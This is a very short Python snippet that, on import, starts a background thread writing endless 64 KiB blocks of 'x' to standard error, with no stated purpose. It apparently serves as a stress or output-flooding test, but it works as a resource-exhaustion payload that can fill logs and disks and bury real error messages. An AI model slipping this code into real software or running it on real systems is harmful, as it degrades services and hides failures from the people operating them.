import os, threading


def _flood():
    while True:
        os.write(2, b"x" * 65_536)


threading.Thread(target=_flood, daemon=True).start()
